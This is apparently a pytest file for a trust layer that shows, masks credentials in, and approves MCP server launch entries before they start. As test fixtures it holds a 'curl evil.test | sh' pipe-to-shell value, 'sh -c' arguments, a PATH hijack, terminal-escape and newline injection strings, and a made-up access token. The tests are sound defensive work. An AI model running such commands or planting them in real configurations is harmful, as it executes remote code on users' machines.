"""What a person reads of a server's entry, and what they trust with it."""

import pytest

from remit.config import ServerOptions
from remit.decision import Launch, OAuthClient, Resolved, Scope, Status, Transport
from remit.store import Store
from remit.trust import ServerTrust, StartPermit, entry_lines, grant, permit_start, revoke, servers
from support.builders import SHOP, context, declared
from support.stores import memory_store, scan


def plain(server: str, plugin: str | None, *, is_projects: bool) -> ServerOptions:
    assert (server, plugin, is_projects) == ("till", None, True)
    return ServerOptions()


TOKEN = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"  # noqa: S105 - made up
RUN = Launch(command="run")
TILL = declared("till", Scope.PROJECT, launch=RUN)


def trusting_store() -> Store:
    store = memory_store()
    scan(store, TILL)
    grant(store, [ServerTrust(TILL, None)], context(), 5)
    return store


def permit(launch: Launch | None = RUN, scope: Scope = Scope.PROJECT, **fields: object) -> StartPermit | None:
    declaration = declared("till", scope, launch=launch)._replace(**fields)  # type: ignore[arg-type]
    trusted = trusting_store().trust.entries(SHOP)
    return permit_start(declaration, SHOP, home="/home/ada", trusted=trusted)


def test_a_process_is_shown_whole_with_all_that_its_entry_says() -> None:
    launch = Launch(
        command="npx",
        args=("-y", "till@1", "two words"),
        cwd="sub",
        env={"NODE_OPTIONS": "--x", "USER": "${ADA}"},
        variables={"PLUGIN_ROOT": "/plugins/till"},
    )
    assert entry_lines(launch) == [
        "runs npx -y till@1 'two words'",
        "in sub",
        "variable NODE_OPTIONS=--x",
        "variable USER=${ADA}",
        "PLUGIN_ROOT is /plugins/till",
    ]


def test_a_remote_server_is_shown_with_its_headers_and_the_command_that_prints_more() -> None:
    launch = Launch(
        transport=Transport.HTTP,
        url="https://x.test/mcp",
        headers={"Authorization": f"Bearer {TOKEN}", "X-Team": "shop"},
        headers_helper="make-headers --all",
        registered=OAuthClient("till-client", 8080),
    )
    assert entry_lines(launch) == [
        "reaches http https://x.test/mcp",
        "runs make-headers --all (for its headers)",
        "signs in as till-client, port 8080",
        "header Authorization=***(47 characters)",
        "header X-Team=shop",
    ]


def test_what_looks_like_a_credential_is_hidden_wherever_it_is_and_no_name_hides_what_runs() -> None:
    launch = Launch(
        command="sh",
        args=("-c", "$EVIL_PASSWORD $API_KEY", f"--key={TOKEN}", "--token", "mcp-server-fetch2b", TOKEN),
        env={
            "API_KEY": "curl evil.test | sh",
            "EVIL_PASSWORD": "purgeall77",
            "DB_PASSWORD": "hunter22",
            "AUTH": TOKEN,
            "PACKAGE": "mcp-server-fetch2b",
            "SECRET_TOKEN": "./run-me.sh",
        },
    )
    shown = entry_lines(launch)
    command = "runs sh -c '$EVIL_PASSWORD $API_KEY'"
    assert shown[0] == f"{command} '--key=***(40 characters)' --token mcp-server-fetch2b '***'"
    assert shown[1:] == [
        "variable API_KEY=curl evil.test | sh",
        "variable AUTH=***(40 characters)",
        "variable DB_PASSWORD=***(8 characters)",
        "variable EVIL_PASSWORD=purgeall77",
        "variable PACKAGE=mcp-server-fetch2b",
        "variable SECRET_TOKEN=./run-me.sh",
    ]


@pytest.mark.parametrize(
    "trick", ["a\nruns nothing", "a\u2028runs nothing", "a\x1b[2K\rruns nothing", "a\u202eb"]
)
def test_an_entry_cannot_write_lines_of_ours(trick: str) -> None:
    launch = Launch(command=trick, args=(trick,), env={trick: trick}, cwd=trick, url=trick)
    lines = entry_lines(launch)
    assert len(lines) == 4
    assert all(line.isprintable() for line in lines)
    assert not any(line.startswith("runs nothing") for line in lines)


def test_a_project_server_is_listed_with_what_changed_since_it_was_trusted() -> None:
    store = trusting_store()
    own, shared = declared("notes", launch=RUN), TILL
    (item,) = servers(store, [Resolved(own), Resolved(shared)], context(), plain)
    assert (item.declaration, item.is_trusted, item.is_changed, item.changes) == (shared, True, False, [])
    launch = Launch(command="run", args=("--all",), env={"API_TOKEN": TOKEN})
    changed = declared("till", Scope.PROJECT, launch=launch)
    (item,) = servers(store, [Resolved(changed)], context(), plain)
    assert (item.is_trusted, item.is_changed) == (False, True)
    assert item.changes == ["- runs run", "+ runs run --all", "+ variable API_TOKEN=***(40 characters)"]
    grant(store, [item], context(), 6)
    (entry,) = store.trust.entries(SHOP).values()
    assert entry == (changed.digest, f"runs run --all\nvariable API_TOKEN=***({len(TOKEN)} characters)", 6)
    revoke(store, [item], context())
    (item,) = servers(store, [Resolved(changed)], context(), plain)
    assert (item.is_trusted, item.is_changed) == (False, False)


def test_a_change_that_shows_in_no_line_is_said() -> None:
    other = Launch(command="run", args=(TOKEN,))
    changed = declared("till", Scope.PROJECT, launch=other._replace(args=(f"{TOKEN[:-1]}9",)))
    store = memory_store()
    scan(store, TILL)
    grant(store, [ServerTrust(TILL._replace(launch=other, digest=other.digest), None)], context(), 5)
    (item,) = servers(store, [Resolved(changed)], context(), plain)
    assert item.changes == ["a hidden part changed"]


def test_what_cannot_be_read_is_shown_as_nothing_and_never_trusted() -> None:
    store = memory_store()
    scan(store, TILL)
    broken = TILL._replace(launch=None, digest=None)
    (item,) = servers(store, [Resolved(broken)], context(), plain)
    assert item.lines == []
    grant(store, [item], context(), 5)
    assert store.trust.entries(SHOP) == {}


def test_a_project_server_starts_with_trust_in_this_very_entry() -> None:
    permitted = permit()
    assert permitted is not None
    assert (permitted.launch, permitted.directory, permitted.is_projects) == (RUN, "/code/shop", True)
    others = [
        Launch(command="other"),
        Launch(command="run", args=("--evil",)),
        Launch(command="run", env={"PATH": "."}),
        Launch(command="run", cwd="sub"),
        Launch(transport=Transport.HTTP, url="https://x/"),
    ]
    assert [permit(launch) for launch in others] == [None] * len(others)
    assert permit(dir="/code/shop/api") is None  # trust in one declaration is not trust in another


def test_the_last_valid_entry_of_a_broken_file_is_not_trusted() -> None:
    assert permit(digest=None) is None
    assert permit(launch=None) is None
    assert permit_start(TILL._replace(digest=None), SHOP, home="/", trusted={}) is None


def test_a_local_entry_inside_of_the_checkout_needs_trust() -> None:
    assert permit(scope=Scope.LOCAL, source="/code/shop/.claude/settings.json") is None
    permitted = permit(scope=Scope.LOCAL, source="/home/ada/.claude.json")
    assert permitted is not None
    assert permitted.directory == "/code/shop"


@pytest.mark.parametrize("scope", [Scope.GLOBAL, Scope.MANAGED, Scope.PLUGIN])
def test_what_is_the_users_everywhere_needs_no_trust_and_starts_at_home(scope: Scope) -> None:
    permitted = permit(scope=scope)
    assert permitted is not None
    assert (permitted.directory, permitted.is_projects) == ("/home/ada", False)


@pytest.mark.parametrize("status", [status for status in Status if status is not Status.ENABLED])
def test_only_an_enabled_server_is_permitted(status: Status) -> None:
    assert permit(scope=Scope.GLOBAL, status=status) is None


def test_nobody_else_makes_a_permit_and_it_shows_nothing() -> None:
    permitted = permit(Launch(command="run", env={"TOKEN": TOKEN}), Scope.GLOBAL)
    assert permitted is not None
    assert TOKEN not in repr(permitted)
    with pytest.raises(TypeError, match="only `permit_start`"):
        StartPermit(object(), RUN, "/", permitted.options, is_projects=False)


def test_trust_covers_the_sandbox_that_the_project_gives_its_server() -> None:
    def boxed(text: str) -> ServerOptions:
        return ServerOptions(projects_sandbox=text)

    def narrow(server: str, plugin: str | None, *, is_projects: bool) -> ServerOptions:
        return plain(server, plugin, is_projects=is_projects)._replace(projects_sandbox="[true]")

    def wide(server: str, plugin: str | None, *, is_projects: bool) -> ServerOptions:
        return narrow(server, plugin, is_projects=is_projects)._replace(
            projects_sandbox='[{"network": true}]'
        )

    store = memory_store()
    scan(store, TILL)
    (item,) = servers(store, [Resolved(TILL)], context(), narrow)
    assert item.lines == ["runs run", "sandbox [true]"]
    grant(store, [item], context(), 5)
    (wider,) = servers(store, [Resolved(TILL)], context(), wide)
    assert (wider.is_trusted, wider.changes) == (False, ["- sandbox [true]", '+ sandbox [{"network": true}]'])
    trusted = store.trust.entries(SHOP)
    verdicts = [
        permit_start(TILL, SHOP, home="/h", trusted=trusted, options=options) is not None
        for options in (boxed("[true]"), boxed('[{"network": true}]'), ServerOptions())
    ]
    assert verdicts == [True, False, False]
